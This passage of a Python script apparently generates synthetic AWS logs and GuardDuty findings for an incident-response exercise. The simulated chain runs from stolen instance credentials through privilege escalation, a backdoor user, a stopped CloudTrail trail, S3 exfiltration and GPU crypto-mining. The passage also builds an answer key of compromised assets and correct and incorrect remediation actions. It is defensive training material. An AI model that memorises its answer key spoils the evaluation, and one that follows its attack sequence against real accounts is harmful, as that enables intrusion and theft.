        T.ev(t, bdu, "s3.amazonaws.com", "GetObject",
             req={"bucketName": exports, "Host": f"{exports}.s3.{region}.amazonaws.com", "key": key},
             data=True, resources=object_res(acct, exports, key), extra=s3_extra(rng.randint(200000, 9000000)),
             attack=True)
        gets.append(t)
        t_exfil = t_exfil or t
        t += rng.randint(2, 8)
    # impact: GPU instances in a region the account never uses
    atk.ip = A2
    atk.ua = kali.format("ec2.describe-regions")
    t = ts("2025-05-20T10:44:10Z")
    t_imp = t
    read_call(T, t, atk, "DescribeRegions", attack=True)
    atk.ua = pacu
    for api, kw in (("DescribeAccountAttributes", {}), ("DescribeVpcs", {}), ("DescribeSubnets", {}),
                    ("DescribeImages", {"owners": ["amazon"]}), ("DescribeKeyPairs", {}),
                    ("DescribeSecurityGroups", {})):
        t += rng.randint(4, 15)
        read_call(T, t, atk, api, region=far, attack=True, **kw)
    sshsg = w.add_sg("ssh-access", "default", "ssh", [("tcp", 22, 22, "0.0.0.0/0", "")])
    sshsg["created_by"] = session_arn
    t += 20
    T.ev(t, atk, "ec2.amazonaws.com", "ImportKeyPair", region=far,
         req={"keyName": "backup-key", "publicKeyMaterial": "<sensitiveDataRemoved>"},
         resp={"requestId": rng.uuid(), "keyName": "backup-key", "keyFingerprint": ":".join(rng.hexs(2) for _ in range(16)),
               "keyPairId": "key-0" + rng.hexs(16)}, read_only=False, attack=True)
    t += 9
    T.ev(t, atk, "ec2.amazonaws.com", "CreateSecurityGroup", region=far,
         req={"groupName": "ssh-access", "groupDescription": "ssh", "vpcId": w.vpc["default"]["vpc_id"]},
         resp={"requestId": rng.uuid(), "_return": True, "groupId": sshsg["group_id"]}, read_only=False, attack=True)
    t += 6
    T.ev(t, atk, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", region=far,
         req={"groupId": sshsg["group_id"], "ipPermissions": {"items": [
             {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {},
              "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}, "ipv6Ranges": {}, "prefixListIds": {}}]}},
         resp={"requestId": rng.uuid(), "_return": True,
               "securityGroupRuleSet": {"items": [{"groupOwnerId": acct, "groupId": sshsg["group_id"],
                                                   "securityGroupRuleId": "sgr-0" + rng.hexs(16), "isEgress": False,
                                                   "ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                                                   "cidrIpv4": "0.0.0.0/0"}]}}, read_only=False, attack=True)
    gpu_ami = "ami-0" + rng.hexs(16)
    t += 25
    run_req = {"instancesSet": {"items": [{"imageId": gpu_ami, "minCount": 1, "maxCount": 4, "keyName": "backup-key"}]},
               "groupSet": {"items": [{"groupId": sshsg["group_id"]}]}, "instanceType": "g4dn.12xlarge",
               "blockDeviceMapping": {}, "monitoring": {"enabled": False}, "disableApiTermination": False,
               "disableApiStop": False, "clientToken": rng.uuid()}
    T.ev(t, atk, "ec2.amazonaws.com", "RunInstances", region=far, req=run_req,
         error=("Client.VcpuLimitExceeded", "You have requested more vCPU capacity than your current vCPU limit of 8 "
                "allows for the instance bucket that the specified instance type belongs to. Please visit "
                "http://aws.amazon.com/contact-us/ec2-request to request an adjustment to this limit."),
         read_only=False, attack=True)
    t = ts("2025-05-20T10:47:31Z")
    t_run = t
    miners = []
    for k, (pip, pub, sub) in enumerate((("172.31.7.201", "192.0.2.181", "default-2a"),
                                         ("172.31.9.88", "192.0.2.182", "default-2a"))):
        m = w.add_instance(None, "g4dn.xlarge", sub, pip, ["ssh-access"], pub, None,
                           volumes=(("/dev/sda1", 125),), launched=iso(t), image=gpu_ami, imds="v1-allowed",
                           platform="Ubuntu 22.04 (Deep Learning AMI GPU PyTorch)")
        m["key_name"] = "backup-key"
        m["launched_by"] = session_arn
        miners.append(m)
    run_req2 = dict(run_req)
    run_req2["instanceType"] = "g4dn.xlarge"
    run_req2["instancesSet"] = {"items": [{"imageId": gpu_ami, "minCount": 2, "maxCount": 2, "keyName": "backup-key"}]}
    run_req2["clientToken"] = rng.uuid()
    resp_items = []
    for k, m in enumerate(miners):
        e = m["enis"][0]
        resp_items.append({
            "instanceId": m["instance_id"], "imageId": gpu_ami, "instanceState": {"code": 0, "name": "pending"},
            "privateDnsName": dns_name_private(m["private_ip"], far), "keyName": "backup-key", "amiLaunchIndex": k,
            "productCodes": {}, "instanceType": "g4dn.xlarge", "launchTime": t * 1000,
            "placement": {"availabilityZone": m["availability_zone"], "tenancy": "default"},
            "monitoring": {"state": "disabled"}, "subnetId": m["subnet_id"], "vpcId": m["vpc_id"],
            "privateIpAddress": m["private_ip"], "stateReason": {"code": "pending", "message": "pending"},
            "architecture": "x86_64", "rootDeviceType": "ebs", "rootDeviceName": "/dev/sda1", "blockDeviceMapping": {},
            "virtualizationType": "hvm", "clientToken": run_req2["clientToken"],
            "groupSet": {"items": [{"groupId": sshsg["group_id"], "groupName": "ssh-access"}]},
            "sourceDestCheck": True, "hypervisor": "xen",
            "networkInterfaceSet": {"items": [{
                "networkInterfaceId": e["eni_id"], "subnetId": m["subnet_id"], "vpcId": m["vpc_id"], "ownerId": acct,
                "status": "in-use", "macAddress": e["mac"], "privateIpAddress": m["private_ip"],
                "privateDnsName": dns_name_private(m["private_ip"], far), "sourceDestCheck": True,
                "interfaceType": "interface", "groupSet": {"items": [{"groupId": sshsg["group_id"], "groupName": "ssh-access"}]},
                "attachment": {"attachmentId": "eni-attach-0" + rng.hexs(16), "deviceIndex": 0, "networkCardIndex": 0,
                               "status": "attaching", "attachTime": t * 1000, "deleteOnTermination": True},
                "privateIpAddressesSet": {"item": [{"privateIpAddress": m["private_ip"],
                                                    "privateDnsName": dns_name_private(m["private_ip"], far),
                                                    "primary": True}]},
                "ipv6AddressesSet": {}, "tagSet": {}}]},
            "ebsOptimized": False, "enaSupport": True, "cpuOptions": {"coreCount": 2, "threadsPerCore": 2},
            "metadataOptions": {"state": "pending", "httpTokens": "optional", "httpPutResponseHopLimit": 1,
                                "httpEndpoint": "enabled"}})
    T.ev(t, atk, "ec2.amazonaws.com", "RunInstances", region=far, req=run_req2,
         resp={"requestId": rng.uuid(), "reservationId": "r-0" + rng.hexs(16), "ownerId": acct, "groupSet": {},
               "instancesSet": {"items": resp_items}}, read_only=False, attack=True)
    for k in range(4):
        t += rng.randint(20, 60)
        read_call(T, t, atk, "DescribeInstances", region=far, attack=True, ids=[m["instance_id"] for m in miners])
    t_imp_last = t
    # later: the backdoor user comes back
    bdu.ua = kali.format("sts.get-caller-identity")
    t = ts("2025-05-20T12:31:40Z")
    read_call(T, t, bdu, "GetCallerIdentity", attack=True)
    bdu.ua = kali.format("s3.ls")
    read_call(T, t + 30, bdu, "ListBuckets", attack=True)
    bdu.ua = s3ua
    for k in range(12):
        key = f"exports/2025/05/20/{rng.uuid()}.csv.gz"
        T.ev(t + 60 + k * 5, bdu, "s3.amazonaws.com", "GetObject",
             req={"bucketName": exports, "Host": f"{exports}.s3.{region}.amazonaws.com", "key": key},
             data=True, resources=object_res(acct, exports, key), extra=s3_extra(rng.randint(200000, 9000000)),
             attack=True)
        gets.append(t + 60 + k * 5)

    # the miners: SSH in, fetch the miner, connect to the pool (ap-southeast-2 VPC flow logs, v5, 10-minute aggregation)
    pool_name = "xmr.pool-mine.example"
    for m in miners:
        me = m["enis"][0]["eni_id"]
        t0 = t_run + 95
        fl_far.conn(me, m["private_ip"], A2, 22, rng.randint(40000, 60000), "tcp", t0, 600, (900, 160000),
                    (700, 90000), outbound=False, window=600)
        dn_far.q(t0 + 40, m, "github.com", answers=["140.82.112.3"])
        dn_far.q(t0 + 41, m, "objects.githubusercontent.com", answers=["185.199.111.133"])
        fl_far.conn(me, m["private_ip"], "185.199.111.133", rng.randint(32768, 60999), 443, "tcp", t0 + 42, 4,
                    (300, 18000), (4200, 6100000), window=600)
        dn_far.q(t0 + 70, m, pool_name, answers=[POOL])
        for t in range(t0 + 600, end - 30, 600):
            dn_far.q(t + rng.randint(0, 30), m, pool_name, answers=[POOL])
        fl_far.conn(me, m["private_ip"], POOL, rng.randint(32768, 60999), 3333, "tcp", t0 + 72, end - t0 - 100,
                    (42 * 60, 42 * 60 * 300), (42 * 70, 42 * 70 * 260), window=600)
        for t in range(t0 + 300, end - 60, 600):
            name = rng.choice([f"ssm.{far}.amazonaws.com", f"ec2.{far}.amazonaws.com"])
            dn_far.q(t, m, name, answers=["99.82.184.12"])
    fl_far.nodata(miners[1]["enis"][0]["eni_id"], t_run - (t_run % 600), t_run - (t_run % 600) + 600)
    mining_first = t_run + 95 + 70

    # findings ------------------------------------------------------------------------------------
    gd = sc.gd
    principal = f"{app_role['role_id']}:{a1}"
    n_stolen = sum(1 for r in T.records if r["userIdentity"].get("accessKeyId") == stolen
                   and r["sourceIPAddress"] in (A1, A2))
    gd.add_sample("Recon:IAMUser/MaliciousIPCaller.Custom", 5, region, sample_t + 25,
                  "Reconnaissance API GeneratedFindingAPIName was invoked from an IP address on a custom threat list.",
                  "APIs commonly used in reconnaissance attacks, was invoked from an IP address on the custom threat "
                  "list. Unauthorized actors perform such activity to gather information and discover resources like "
                  "databases, S3 buckets etc., in order to further tailor the attack.",
                  {"actionType": "AWS_API_CALL", "awsApiCallAction": {
                      "api": "GeneratedFindingAPIName", "serviceName": "GeneratedFindingAPIServiceName",
                      "callerType": "Remote IP", "errorCode": "AccessDenied", "remoteIpDetails": gd.sample_remote(),
                      "affectedResources": {}}}, resource_type="AccessKey",
                  note="A GuardDuty sample generated by alice.chen at 08:14: placeholders only.")
    gd.add("Recon:EC2/PortProbeUnprotectedPort", 2, region, gd.instance_details(bastion),
           gd.probe_action([(22, "SSH", bastion["private_ip"], "198.51.100.45")]),
           probes[0], probes[-1], 3, probes[0] + 655, probes[-1] + 431,
           f"Unprotected port on EC2 instance {bastion['instance_id']} is being probed.",
           f"EC2 instance {bastion['instance_id']} has an unprotected port which is being probed by a known "
           f"malicious host.", "FlowLogs", additional={"threatName": "Scanner", "threatListName": "ProofPoint"},
           note="A scanner on the bastion's SSH port, three times today. Noise.")
    gd.add("UnauthorizedAccess:EC2/SSHBruteForce", 2, region, gd.instance_details(bastion),
           gd.net_action("INBOUND", "198.51.100.201", 48822, "Unknown", 22, "SSH", bastion["private_ip"]),
           bf[0], bf[-1], len(bf), bf[-1] + 540, bf[-1] + 540,
           f"198.51.100.201 is performing SSH brute force attacks against {bastion['instance_id']}.",
           f"198.51.100.201 is performing SSH brute force attacks against {bastion['instance_id']}. Brute force "
           f"attacks are used to gain unauthorized access to your instance by guessing the SSH password.",
           "FlowLogs", note="Password guessing against the bastion in the afternoon; no login. Noise.")
    ak = gd.access_key(stolen, principal, "app-server-role", "AssumedRole")
    gd.add("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 8, region, ak,
           gd.api_action("GetCallerIdentity", "sts.amazonaws.com", A1),
           t_first, t_imp_last, n_stolen, t_first + 1007, t_imp_last + 480,
           f"Credentials for instance role app-server-role used from external IP address.",
           f"Credentials created exclusively for an EC2 instance using instance role app-server-role have been "
           f"used from external IP address {A1}.", "CloudTrail", envelope="eventbridge",
           note="The instance-role key issued to app-1 at " + iso(issued)[11:16] + " is used from 203.0.113.66, "
                "outside AWS. Delivered as an EventBridge event.")
    gd.add("Discovery:IAMUser/AnomalousBehavior", 2, region, gd.access_key(stolen, principal, "app-server-role", "AssumedRole"),
           gd.api_action("DescribeInstances", "ec2.amazonaws.com", A1),
           t_disc, t_disc_last, 74, t_disc + 2143, t_disc_last + 1800,
           "User AssumedRole : app-server-role is anomalously invoking APIs commonly used in Discovery tactics.",
           "APIs commonly used in Discovery tactics were invoked by user AssumedRole : app-server-role under "
           "unusual circumstances. Such activity is not typically seen from this user.", "CloudTrail",
           additional={"anomalies": {"anomalousAPIs": "ec2.amazonaws.com:[DescribeInstances:success "
                                                      "DescribeSnapshots:success DescribeKeyPairs:success] "
                                                      "iam.amazonaws.com:[ListUsers:AccessDenied ListRoles:AccessDenied "
                                                      "GetAccountAuthorizationDetails:AccessDenied]"},
                       "unusualBehavior": {"isUnusualUserIdentity": "false", "unusualASNsUserIdentityProfiling": "64506",
                                           "unusualUserAgentsUserIdentityProfiling": "Boto3,aws-cli"}},
           note="Enumeration of IAM, EC2 in four regions, S3, RDS, Lambda, GuardDuty and CloudTrail.")
    gd.add("PrivilegeEscalation:IAMUser/AnomalousBehavior", 5, region,
           gd.access_key(stolen, principal, "app-server-role", "AssumedRole"),
           gd.api_action("CreatePolicyVersion", "iam.amazonaws.com", A1),
           t_pe, t_pe_last, 3, t_pe + 1388, t_pe + 1388,
           "User AssumedRole : app-server-role is anomalously invoking APIs commonly used in Privilege Escalation "
           "tactics.",
           "APIs commonly used in Privilege Escalation tactics were invoked by user AssumedRole : app-server-role "
           "under unusual circumstances. Such activity is not typically seen from this user.", "CloudTrail",
           additional={"anomalies": {"anomalousAPIs": "iam.amazonaws.com:[AttachRolePolicy:AccessDenied "
                                                      "PutRolePolicy:AccessDenied CreatePolicyVersion:success]"}},
           note="After two denied attempts, CreatePolicyVersion v3 grants '*' on '*' to the role's own policy.")
    gd.add("Persistence:IAMUser/AnomalousBehavior", 5, region,
           gd.access_key(stolen, principal, "app-server-role", "AssumedRole"),
           gd.api_action("CreateAccessKey", "iam.amazonaws.com", A1),
           t_pers, t_pers_last, 4, t_pers + 1267, t_pers + 1267,
           "User AssumedRole : app-server-role is anomalously invoking APIs commonly used in Persistence tactics.",
           "APIs commonly used in Persistence tactics were invoked by user AssumedRole : app-server-role under "
           "unusual circumstances. Such activity is not typically seen from this user.", "CloudTrail",
           additional={"anomalies": {"anomalousAPIs": "iam.amazonaws.com:[CreateUser:success AttachUserPolicy:success "
                                                      "CreateAccessKey:success UpdateAssumeRolePolicy:success]"}},
           note="Backdoor user svc-backup-sync with AdministratorAccess and a key; ops-admin-role trusts 999988887777.")
    gd.add("Stealth:IAMUser/CloudTrailLoggingDisabled", 2, "us-west-2",
           gd.access_key(stolen, principal, "app-server-role", "AssumedRole"),
           gd.api_action("StopLogging", "cloudtrail.amazonaws.com", A1,
                         affected={"AWS::CloudTrail::Trail": legacy_trail}),
           t_stop, t_stop, 1, t_stop + 512, t_stop + 512,
           "AWS CloudTrail trail legacy-audit-trail was disabled.",
           f"The AWS CloudTrail trail legacy-audit-trail was disabled by AssumedRole : app-server-role calling "
           f"StopLogging under unusual circumstances. This can be attackers' attempt to cover their tracks by "
           f"eliminating any trace of activity performed while they accessed your account.", "CloudTrail",
           note="The unprotected legacy trail in us-west-2 is stopped; the SCP keeps management-events running.")
    gd.add("Exfiltration:IAMUser/AnomalousBehavior", 8, region,
           gd.access_key(stolen, principal, "app-server-role", "AssumedRole"),
           gd.api_action("ModifySnapshotAttribute", "ec2.amazonaws.com", A1),
           t_snap, t_share, 2, t_share + 903, t_share + 903,
           "User AssumedRole : app-server-role is anomalously invoking APIs commonly used in Exfiltration tactics.",
           "APIs commonly used in Exfiltration tactics were invoked by user AssumedRole : app-server-role under "
           "unusual circumstances. Such activity is not typically seen from this user.", "CloudTrail",
           additional={"anomalies": {"anomalousAPIs": "ec2.amazonaws.com:[CreateSnapshot:success "
                                                      "ModifySnapshotAttribute:success]"}},
           note=f"A snapshot of orders-db's unencrypted data volume is shared with account {EXT}.")
    s3res = {"resourceType": "S3Bucket",
             "accessKeyDetails": {"accessKeyId": bd_key, "principalId": bd["user_id"], "userName": bd_name,
                                  "userType": "IAMUser"},
             "s3BucketDetails": [{"arn": f"arn:aws:s3:::{exports}", "name": exports, "type": "Destination",
                                  "createdAt": 1717322112.0, "owner": {"id": rng.hexs(64)},
                                  "tags": [{"key": "data-class", "value": "confidential"}],
                                  "defaultServerSideEncryption": {"encryptionType": "AES256"},
                                  "publicAccess": {"effectivePermission": "NOT_PUBLIC"}}]}
    gd.add("Exfiltration:S3/AnomalousBehavior", 8, region, s3res,
           gd.api_action("GetObject", "s3.amazonaws.com", A2, affected={"AWS::S3::Bucket": exports}),
           t_exfil, gets[-1], len(gets), gets[239] + 664, gets[-1] + 600,
           f"An IAM entity invoked S3 APIs in a suspicious way.",
           f"An IAM entity (IAMUser : {bd_name}) invoked S3 GetObject against {exports} in a way that is unusual "
           f"for the bucket and the account.", "S3DataEvents",
           additional={"anomalies": {"anomalousAPIs": "s3.amazonaws.com:[GetObject:success ListObjects:success]"}},
           note="The backdoor user downloads ~250 customer exports from 198.51.100.88.")
    gd.add("Impact:IAMUser/AnomalousBehavior", 8, far,
           gd.access_key(stolen, principal, "app-server-role", "AssumedRole"),
           gd.api_action("RunInstances", "ec2.amazonaws.com", A2),
           t_imp, t_imp_last, 14, t_imp + 1310, t_imp + 1310,
           "User AssumedRole : app-server-role is anomalously invoking APIs commonly used in Impact tactics.",
           "APIs commonly used in Impact tactics were invoked by user AssumedRole : app-server-role under unusual "
           "circumstances. Such activity is not typically seen from this user.", "CloudTrail", envelope="pascal",
           additional={"anomalies": {"anomalousAPIs": "ec2.amazonaws.com:[RunInstances:success "
                                                      "RunInstances:Client.VcpuLimitExceeded ImportKeyPair:success "
                                                      "AuthorizeSecurityGroupIngress:success]"}},
           note="The stolen key, now from 198.51.100.88, launches GPU instances in ap-southeast-2 (AWS CLI output, PascalCase).")
    for m in miners:
        last = max(r[0] for r in dn_far.recs if r[2]["srcids"]["instance"] == m["instance_id"]
                   and r[2]["query_name"] == pool_name + ".")
        n = sum(1 for r in dn_far.recs if r[2]["srcids"]["instance"] == m["instance_id"]
                and r[2]["query_name"] == pool_name + ".")
        gd.add("CryptoCurrency:EC2/BitcoinTool.B!DNS", 8, far, gd.instance_details(m), gd.dns_action(pool_name),
               mining_first, last, n, mining_first + 1021 + rng.randint(0, 90), last + 300,
               f"Bitcoin-related domain name queried by EC2 instance {m['instance_id']}.",
               f"EC2 instance {m['instance_id']} is querying a domain name that is associated with Bitcoin-related "
               f"activity.", "DnsLogs", envelope="pascal",
               note="A GPU instance the attacker launched resolves the Monero pool every ten minutes.")
    sc.answer = {
        "compromised": [f"instance:{a1}", f"session:{session_arn}", f"role:{app_role['arn']}", f"key:{stolen}",
                        f"user:{bd['arn']}", f"key:{bd_key}"] + [f"instance:{m['instance_id']}" for m in miners],
        "attacker_ips": [A1, A2, POOL],
        "attacker_domains": [pool_name],
        "right_actions": [], "wrong_actions": [],
    }
    sc.threat_intel = (
        "# vigil demo threat intel: iam-credential-chain\n"
        "# One indicator per line (IPv4/IPv6 address or domain); '#' starts a comment.\n"
        f"{A1}\t# anonymising VPN exit used for cloud credential abuse\n"
        f"{POOL}\t# Monero mining pool\n"
        f"{pool_name}\n")
    sc.noise = {"scanner_ips": ["198.51.100.45", "198.51.100.201"],
                "description": "A scanner and a brute-forcer on the bastion, dana.sec's IAM audit, customers "
                               "downloading exports via pre-signed URLs, a sample finding."}

    def actions(by_type):
        sc.answer["right_actions"] = [
            {"action": "revoke-sessions", "target": f"role:{app_role['arn']}"},
            {"action": "disable-key", "target": f"key:{bd_key}"},
        ]
        for m in miners:
            sc.answer["right_actions"] += [{"action": "snapshot", "target": f"instance:{m['instance_id']}"},
                                           {"action": "quarantine", "target": f"instance:{m['instance_id']}"}]
        sc.answer["right_actions"].append(
            {"action": "notify",
             "target": f"finding:{by_type['UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS']}"})
        sc.answer["wrong_actions"] = [
            {"action": "disable-key", "target": f"key:{stolen}",
             "why": "An ASIA key is a temporary instance-profile credential: UpdateAccessKey cannot disable it. "
                    "Revoke the role's sessions instead."},
            {"action": "disable-key", "target": f"key:{w.user['dana.sec']['access_keys'][0]['access_key_id']}",
             "why": "dana.sec's burst of IAM List*/Get* calls is the weekly audit from the office, at the same "
                    "hour as the attack but from 192.0.2.241, not the attacker."},
            {"action": "revoke-sessions", "target": f"role:{w.role['ci-deploy-role']['arn']}",
             "why": "The CI role's deploys are ordinary and nothing links them to the stolen key."},
            {"action": "quarantine", "target": f"instance:{bastion['instance_id']}",
             "why": "The bastion's findings are an internet scanner and a failed brute force: noise."},
        ]
    sc.finish = actions
    return sc


# --------------------------------------------------------------------------------------------------
# self-check: read back everything that was written


def read_back(d: Path) -> dict:
    counts = {"findings": 0, "cloudtrail": 0, "flows": 0, "dns": 0, "files": 0, "bytes": 0}
    for p in sorted(d.rglob("*")):
        if not p.is_file():
            continue
        counts["files"] += 1
        counts["bytes"] += p.stat().st_size
        rel = p.relative_to(d).as_posix()
        raw = p.read_bytes()
        text = (gzip.decompress(raw) if p.suffix == ".gz" else raw).decode("utf-8")
        top = rel.split("/")[0]
        if top == "findings":
            if rel.endswith(".jsonl.gz"):
                n = sum(1 for line in text.splitlines() if json.loads(line))
            else:
                o = json.loads(text)
                n = len(o) if isinstance(o, list) else len(o.get("Findings", [])) if "Findings" in o else 1
            counts["findings"] += n
        elif top == "cloudtrail":
            recs = json.loads(text)["Records"]
            assert text.count("\n") == 1, rel
            counts["cloudtrail"] += len(recs)
        elif top == "flowlogs":
            lines = text.splitlines()
            header = lines[0].split()
            for line in lines[1:]:
                assert len(line.split()) == len(header), (rel, line)
            counts["flows"] += len(lines) - 1
        elif top == "dns":
            for line in text.splitlines():
                r = json.loads(line)
                assert r["query_name"].endswith("."), rel
                counts["dns"] += 1
        elif rel in ("world.json",):
            json.loads(text)
        elif rel == "scenario.toml":
            import tomllib
            tomllib.loads(text)
    return counts


SCENARIOS = [log4shell, dns_c2, iam_chain]


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", type=Path, default=DEFAULT_OUT, help="output directory (default: demo/)")
    ap.add_argument("--only", help="generate one scenario")
    args = ap.parse_args(argv)
    args.out.mkdir(parents=True, exist_ok=True)
    total = 0
    for make in SCENARIOS:
        sc = make(args.out)
        if args.only and sc.name != args.only:
            continue
        sc.finish({f["type"]: f["id"] for f, _ in sc.gd.findings})
        res = sc.write(args.out)
        c = read_back(args.out / sc.name)
        total += c["bytes"]
        print(f"{sc.name}: {c['findings']} findings, {c['cloudtrail']} CloudTrail events "
              f"({len(sc.trail.attack_ids)} by the attacker), {c['flows']} flow records, {c['dns']} DNS queries; "
              f"{c['files']} files, {c['bytes'] / 1024:.0f} KiB")
        for g in res["groups"]:
            types = [next(f["type"] for f, _ in sc.gd.findings if f["id"] == i) for i in g["findings"]]
            print(f"  group severity {g['severity']}: {', '.join(types)}")
        per_kind = {}
        for s in res["slices"]:
            per_kind.setdefault(s["kind"], []).append(s["records"])
        for k, v in per_kind.items():
            print(f"  {k}: {len(v)} files, {sum(v)} records (per file {min(v)}-{max(v)})")
    print(f"total {total / 1024:.0f} KiB")
    return 0


if __name__ == "__main__":
    sys.exit(main())
